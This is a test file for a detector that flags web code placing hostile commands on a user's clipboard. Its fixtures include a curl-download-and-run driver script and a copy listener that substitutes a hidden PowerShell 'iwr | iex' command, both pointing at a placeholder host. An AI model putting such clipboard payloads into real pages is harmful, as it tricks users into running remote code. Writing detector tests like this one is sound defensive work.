import { expect, test } from 'vitest'
import { artifactOf, hits } from '../testing.ts'
import detector from './page-copies-command.ts'

test.each([
  [
    'a component that hands out a driver script',
    'src/step.jsx',
    "const fix = 'curl -k -o /var/tmp/cam.sh https://step.invalid/m.sh && chmod +x /var/tmp/cam.sh && nohup bash /var/tmp/cam.sh &'\nexport const Step = () => <button onClick={() => navigator.clipboard.writeText(fix)}>Copy</button>\n",
    2,
  ],
  [
    'a listener that swaps what was copied',
    'public/copy.js',
    "document.addEventListener('copy', (event) => {\n  event.clipboardData.setData('text/plain', 'powershell -w hidden -c \"iwr http://step.invalid/a.ps1 | iex\"')\n  event.preventDefault()\n})\n",
    2,
  ],
])('%s', async (_, path, code, line) => {
  const [finding] = hits(detector, await artifactOf({ [path]: code }))
  expect(finding).toMatchObject({ where: { file: path, line } })
})

test.each([
  ['a button that copies an address', "navigator.clipboard.writeText('https://wallet.example/0x1')\n"],
  ['a button that copies an install line', "navigator.clipboard.writeText('npm install viem')\n"],
  ["a maker's own installer", "navigator.clipboard.writeText('curl -fsSL https://bun.sh/install | bash')\n"],
  ['a text that is not known', 'export const copy = (text) => navigator.clipboard.writeText(text)\n'],
])('%s is innocent', async (_, code) => {
  expect(hits(detector, await artifactOf({ 'src/copy.js': code }))).toEqual([])
})
